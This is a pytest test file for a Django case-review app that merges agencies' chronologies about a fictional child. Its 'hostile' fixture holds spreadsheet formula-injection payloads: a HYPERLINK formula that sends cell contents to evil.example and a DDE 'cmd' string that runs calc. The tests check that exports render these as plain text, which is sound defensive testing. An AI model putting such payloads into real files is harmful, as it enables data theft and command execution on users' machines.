"""The chronology pages as a reviewer and an agency use them."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from casereview.chronology import services
from casereview.chronology.models import DuplicateLink, DuplicateStatus, Entry, Episode, Submission

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("uploads_in_tmp")]


@pytest.fixture
def loaded(import_as, police_claire, health_tom, police, health_visiting, write_csv, review):
    """Entries around Oliver's birth on 30/12/2018, from two agencies."""
    import_as(police_claire, police, write_csv("police.csv", [
        ["Date/Time", "Details", "Significance"],
        ["28/11/2018 21:05", "Argument at the address; two dogs shut in kitchen", "Dogs not mentioned to MASH"],
        ["13/01/2019 08:52", "999 call: Oliver injured by the family dogs", ""],
        ["13/01/2019 14:00", "Strategy discussion held with social care and health after Oliver's injuries", ""],
    ]))
    import_as(health_tom, health_visiting, write_csv("health.csv", [
        ["Date of contact", "What happened", "Outcome"],
        ["November 2018", "Antenatal contact; dogs barking in the kitchen", "Universal service"],
        ["09/01/2019", "New birth visit; Oliver seen with two dogs in the room", "Routine"],
        ["13/01/2019", "Strategy discussion held with police and social care after Oliver's injuries", "Attended"],
    ]))
    return review


def page(client, review, **params) -> str:
    response = client.get(reverse("chronology:integrated", args=[review.pk]), params)
    assert response.status_code == 200
    return response.content.decode()


def test_the_reviewer_sees_every_agency_in_date_order_with_ages_but_never_the_date_of_birth(loaded, client_for, reviewer_helen):
    html = page(client_for(reviewer_helen), loaded)
    assert html.index("November 2018") < html.index("28/11/2018") < html.index("09/01/2019") < html.index("999 call")
    assert "10 days" in html  # 9 January 2019, born 30 December 2018
    assert "before birth" in html
    assert "30/12/2018" not in html and "30 December 2018" not in html


def test_filters_by_agency_date_range_and_significance(loaded, client_for, reviewer_helen, police):
    client = client_for(reviewer_helen)
    police_only = page(client, loaded, agency=police.pk)
    assert "999 call" in police_only and "New birth visit" not in police_only
    january = page(client, loaded, **{"from": "01/01/2019", "to": "31/01/2019"})
    assert "New birth visit" in january and "Argument at the address" not in january
    noted = page(client, loaded, significance="noted")
    assert "Argument at the address" in noted and "999 call" not in noted


def test_a_date_filter_is_read_day_first_and_a_bad_one_is_reported(loaded, client_for, reviewer_helen):
    client = client_for(reviewer_helen)
    assert "New birth visit" in page(client, loaded, **{"from": "09/01/2019", "to": "09/01/2019"})
    assert "Some filters could not be used" in page(client, loaded, **{"from": "31/02/2019"})


def test_an_episode_filters_to_its_period(loaded, client_for, reviewer_helen, now):
    episode = services.create_episode(review=loaded, name="Birth to the incident", start=dt.date(2018, 12, 30),
                                      end=dt.date(2019, 1, 13), by=reviewer_helen, now=now)
    html = page(client_for(reviewer_helen), loaded, episode=episode.pk)
    assert "New birth visit" in html and "Argument at the address" not in html
    assert "Birth to the incident" in html


def test_pages_follow_on_with_keyset_cursors_both_ways(loaded, client_for, reviewer_helen, monkeypatch):
    from casereview.chronology import selectors

    monkeypatch.setattr(selectors, "PAGE_SIZE", 2)
    client = client_for(reviewer_helen)
    url = reverse("chronology:integrated", args=[loaded.pk])
    first = client.get(url)
    assert "November 2018" in first.content.decode() and "New birth visit" not in first.content.decode()
    second = client.get(url, {"after": first.context["page"].next_cursor})
    html = second.content.decode()
    assert "New birth visit" in html and "999 call" in html  # 13/01 08:52 comes before that day's untimed entries
    assert "November 2018" not in html and "Strategy discussion held with police" not in html
    back = page(client, loaded, before=second.context["page"].previous_cursor)
    assert "November 2018" in back and "Argument at the address" in back and "New birth visit" not in back


def test_possible_duplicates_are_shown_and_the_reviewer_decides(loaded, client_for, reviewer_helen):
    link = DuplicateLink.objects.get()
    client = client_for(reviewer_helen)
    assert "Possible duplicate" in page(client, loaded)
    response = client.post(reverse("chronology:duplicate_decide", args=[loaded.pk, link.pk]), {"status": "same_event"})
    assert response.status_code == 302
    link.refresh_from_db()
    assert link.status == DuplicateStatus.SAME_EVENT and link.decided_by == reviewer_helen
    assert Entry.objects.filter(is_current=True).count() == 6


def test_the_reviewer_adds_analysis_in_a_column_of_their_own(loaded, client_for, reviewer_helen):
    entry = Entry.objects.get(event__startswith="New birth visit")
    client = client_for(reviewer_helen)
    response = client.post(reverse("chronology:analysis", args=[loaded.pk, entry.pk]), {"text": "Dogs seen, not discussed"})
    assert response.status_code == 302
    entry.refresh_from_db()
    assert entry.analysis.text == "Dogs seen, not discussed" and entry.event.startswith("New birth visit")
    assert "Dogs seen, not discussed" in page(client, loaded)


def test_the_timeline_draws_a_lane_per_agency_and_shades_episodes(loaded, client_for, reviewer_helen, now):
    services.create_episode(review=loaded, name="Pregnancy", start=dt.date(2018, 11, 1), end=dt.date(2018, 12, 29),
                            by=reviewer_helen, now=now)
    response = client_for(reviewer_helen).get(reverse("chronology:timeline", args=[loaded.pk]))
    html = response.content.decode()
    assert response.status_code == 200 and "<svg" in html
    assert html.count('class="lane-label"') == 2 and 'class="episode"' in html and "Pregnancy" in html
    assert 'class="bar"' in html  # November 2018 drawn over its month


def test_xlsx_export_reads_back_with_real_dates_ages_and_analysis(loaded, client_for, reviewer_helen, now):
    services.save_analysis(entry=Entry.objects.get(event__startswith="999"), text="Incident", by=reviewer_helen, now=now)
    response = client_for(reviewer_helen).get(reverse("chronology:export_xlsx", args=[loaded.pk]))
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    rows = list(load_workbook(io.BytesIO(response.content), read_only=True).worksheets[0].iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert header[:2] == ("Date", "Date precision") and len(body) == 6
    assert body[0][0] == dt.datetime(2018, 11, 1) and body[0][1] == "Month"
    row_999 = next(r for r in body if r[9].startswith("999"))
    assert row_999[4] == "2 weeks" and row_999[12] == "Incident"


def test_csv_export_keeps_filters_and_uk_dates(loaded, client_for, reviewer_helen, police):
    response = client_for(reviewer_helen).get(reverse("chronology:export_csv", args=[loaded.pk]), {"agency": police.pk})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][0] == "Date" and [r[0] for r in rows[1:]] == ["28/11/2018", "13/01/2019", "13/01/2019"]


def test_an_upload_with_unknown_headers_goes_through_an_explicit_mapping_step(review, client_for, police_claire, write_csv):
    path = write_csv("police.csv", [["Police log"], ["When", "Notes", "Officer"], ["03/01/2019", "Visit to the address", "PC 12"]])
    client = client_for(police_claire)
    with path.open("rb") as handle:
        response = client.post(reverse("chronology:submission", args=[review.pk]), {"file": handle})
    assert response.status_code == 302 and "/map/" in response["Location"]
    mapping_page = client.get(response["Location"])
    assert "Match the columns of police.csv" in mapping_page.content.decode() and not Submission.objects.exists()
    response = client.post(response["Location"], {"col_0": "date", "col_1": "event", "col_2": ""})
    assert response.status_code == 302
    submission = Submission.objects.get()
    assert submission.mapping == {"When": "date", "Notes": "event", "Officer": "ignore"}
    assert Entry.objects.get().date == dt.date(2019, 1, 3)


def test_the_mapping_step_insists_on_a_date_and_an_event(review, client_for, police_claire, write_csv):
    path = write_csv("police.csv", [["When", "Notes"], ["03/01/2019", "Visit"]])
    client = client_for(police_claire)
    with path.open("rb") as handle:
        location = client.post(reverse("chronology:submission", args=[review.pk]), {"file": handle})["Location"]
    response = client.post(location, {"col_0": "", "col_1": "event"})
    assert response.status_code == 400 and "holds the date" in response.content.decode()


def test_a_bad_upload_lists_every_problem_and_stores_nothing(review, client_for, police_claire, write_csv):
    path = write_csv("police.csv", [["Date", "Event"], ["31/02/2019", "Visit"], ["", "Call"], ["01/03/2019", "Letter"]])
    with path.open("rb") as handle:
        response = client_for(police_claire).post(reverse("chronology:submission", args=[review.pk]), {"file": handle})
    html = response.content.decode()
    assert response.status_code == 400 and "2 problems" in html and "31/02/2019" in html and "not a real date" in html
    assert not Entry.objects.exists()


def test_an_old_xls_file_is_refused_with_advice(review, client_for, police_claire, tmp_path):
    path = tmp_path / "police.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0")
    with path.open("rb") as handle:
        response = client_for(police_claire).post(reverse("chronology:submission", args=[review.pk]), {"file": handle})
    assert response.status_code == 400 and "save it as .xlsx" in response.content.decode()


def test_a_manager_uploads_for_a_chosen_agency(review, client_for, manager_rob, health_visiting, agency_files):
    with agency_files["health"].open("rb") as handle:
        url = reverse("chronology:submission", args=[review.pk]) + f"?agency={health_visiting.pk}"
        assert client_for(manager_rob).post(url, {"agency": health_visiting.pk, "file": handle}).status_code == 302
    assert Submission.objects.get().agency == health_visiting


def test_removing_an_episode_leaves_the_entries(loaded, client_for, reviewer_helen, now):
    episode = services.create_episode(review=loaded, name="Pregnancy", start=dt.date(2018, 11, 1), end=dt.date(2018, 12, 29),
                                      by=reviewer_helen, now=now)
    response = client_for(reviewer_helen).post(reverse("chronology:episode_delete", args=[loaded.pk, episode.pk]))
    assert response.status_code == 302 and not Episode.objects.exists() and Entry.objects.filter(is_current=True).count() == 6


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full record")'


@pytest.fixture
def hostile(import_as, police_claire, police, write_csv, review):
    """Police's chronology with a formula typed into the event and a negative-looking 'date as written'."""
    import_as(police_claire, police, write_csv("police.csv", [
        ["Date", "Event", "Significance"],
        ["28/11/2018", HOSTILE, "-cmd|' /C calc'!A0"],
    ]))
    return review


def test_reviewer_helen_downloads_a_csv_where_a_police_formula_is_plain_text(hostile, client_for, reviewer_helen):
    response = client_for(reviewer_helen).get(reverse("chronology:export_csv", args=[hostile.pk]))
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    columns = dict(zip(header, row, strict=True))
    assert columns["Event"] == "'" + HOSTILE and columns["Significance (agency)"] == "'-cmd|' /C calc'!A0"
    assert columns["Date"] == "28/11/2018" and columns["Row"] == "2" and columns["Days since previous"] == ""


def test_reviewer_helen_downloads_an_xlsx_where_a_police_formula_is_plain_text(hostile, client_for, reviewer_helen):
    response = client_for(reviewer_helen).get(reverse("chronology:export_xlsx", args=[hostile.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    columns = {head.value: cell for head, cell in zip(sheet[1], sheet[2], strict=True)}
    assert columns["Event"].value == "'" + HOSTILE and columns["Event"].data_type == "s"
    assert columns["Date"].value == dt.datetime(2018, 11, 28) and columns["Row"].value == 2
    assert columns["Days since previous"].value is None


def test_police_claire_cannot_upload_a_chronology_over_the_size_limit(review, client_for, police_claire, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.MAX_SPREADSHEET_BYTES = 1024
    upload = SimpleUploadedFile("police.csv", b"Date,Event\r\n" + b"03/01/2019,Visit\r\n" * 100)
    response = client_for(police_claire).post(reverse("chronology:submission", args=[review.pk]), {"file": upload})
    assert response.status_code == 400
    assert "The file must be smaller than 1 KB: split it into smaller files." in response.content.decode()
    assert not Submission.objects.exists()


def test_police_claire_uploads_a_windows_1252_semicolon_chronology(review, client_for, police_claire):
    from django.core.files.uploadedfile import SimpleUploadedFile

    data = "Date;Event\r\n03/01/2019;Visit – Zoë’s mum, £20 left\r\n".encode("cp1252")
    response = client_for(police_claire).post(reverse("chronology:submission", args=[review.pk]),
                                              {"file": SimpleUploadedFile("police.csv", data)})
    assert response.status_code == 302
    assert Entry.objects.get().event == "Visit – Zoë’s mum, £20 left"


def test_same_day_entries_without_a_time_follow_the_timed_ones_and_say_so(loaded, client_for, reviewer_helen):
    html = page(client_for(reviewer_helen), loaded)
    call, police_strategy, health_strategy = (html.index("999 call"), html.index("Strategy discussion held with social care"),
                                              html.index("Strategy discussion held with police"))
    assert call < police_strategy < health_strategy  # 08:52, 14:00, then the health entry with no time
    assert html.count("Time not recorded") == 1  # only where a same-day neighbour has a time
    assert html.index("Time not recorded") > police_strategy


def test_the_summary_line_counts_what_the_filters_show(loaded, client_for, reviewer_helen, police):
    client = client_for(reviewer_helen)
    assert "6 entries from 2 agencies" in page(client, loaded)
    assert "3 of 6 entries, from 1 of 2 agencies, match the filters" in page(client, loaded, agency=police.pk)
    assert "4 of 6 entries, from 2 of 2 agencies" in page(client, loaded, **{"from": "01/01/2019"})


def test_timeline_marks_link_to_their_entries_with_a_summary_and_a_table_is_one_click_away(
        loaded, client_for, reviewer_helen, police):
    client = client_for(reviewer_helen)
    response = client.get(reverse("chronology:timeline", args=[loaded.pk]), {"agency": police.pk})
    html = response.content.decode()
    call = Entry.objects.get(event__startswith="999 call")
    assert f'#entry-{call.pk}"' in html
    # Hover title: date, agency and what happened (the day's first entry when there were several).
    assert "13/01/2019, Northshire Police: 2 entries. First: 999 call: Oliver injured by the family dogs" in html
    assert "28/11/2018 21:05, Northshire Police: Argument at the address" in html
    assert html.count('class="mark-link"') == 2 and html.count('class="tip"') == 2  # one summary per mark, on focus
    assert 'id="view-as-table">View as a table' in html and f"agency={police.pk}" in html
    # The mark's link opens the integrated chronology at that entry, filtered the same.
    href = next(m["href"] for m in response.context["picture"].marks if m["href"].endswith(f"#entry-{call.pk}"))
    target = client.get(href.replace("&amp;", "&").split("#")[0])
    body = target.content.decode()
    assert f'id="entry-{call.pk}"' in body and "New birth visit" not in body


def test_a_long_agency_name_is_drawn_whole_on_the_timeline(loaded, client_for, reviewer_helen, health_visiting):
    long_name = "Northshire and Fenland Community Health Services NHS Foundation Trust (0-19 Healthy Child Programme)"
    type(health_visiting).objects.filter(pk=health_visiting.pk).update(name=long_name)
    response = client_for(reviewer_helen).get(reverse("chronology:timeline", args=[loaded.pk]))
    picture = response.context["picture"]
    lane = next(lane for lane in picture.lanes if lane["name"] == long_name)
    drawn = " ".join(line["text"] for line in lane["lines"])
    assert drawn == f"{long_name} (3)" and len(lane["lines"]) > 1
    from casereview.chronology.selectors import LABEL_CHAR

    # The label column is wide enough for the longest line, and marks start after it.
    assert all(len(line["text"]) * LABEL_CHAR < picture.label_width for line in lane["lines"])
    assert min(m["x"] for m in picture.marks) >= picture.label_width


def test_migration_0003_moves_untimed_entries_after_timed_ones(loaded):
    import importlib

    from django.apps import apps

    migration = importlib.import_module("casereview.chronology.migrations.0003_untimed_entries_after_timed")
    migration.backwards(apps, None)
    old = {e.time: e.sort_key for e in Entry.objects.filter(date=dt.date(2019, 1, 13))}
    assert old[""] < old["08:52"] < old["14:00"]  # the old order put the untimed entry first
    migration.forwards(apps, None)
    keys = dict(Entry.objects.filter(date=dt.date(2019, 1, 13)).values_list("event", "sort_key"))
    ordered = sorted(keys, key=keys.get)
    assert ordered[0].startswith("999 call") and ordered[-1].startswith("Strategy discussion held with police")
    assert set(keys.values()) == {"20190113300852", "20190113301400", "2019011331"}
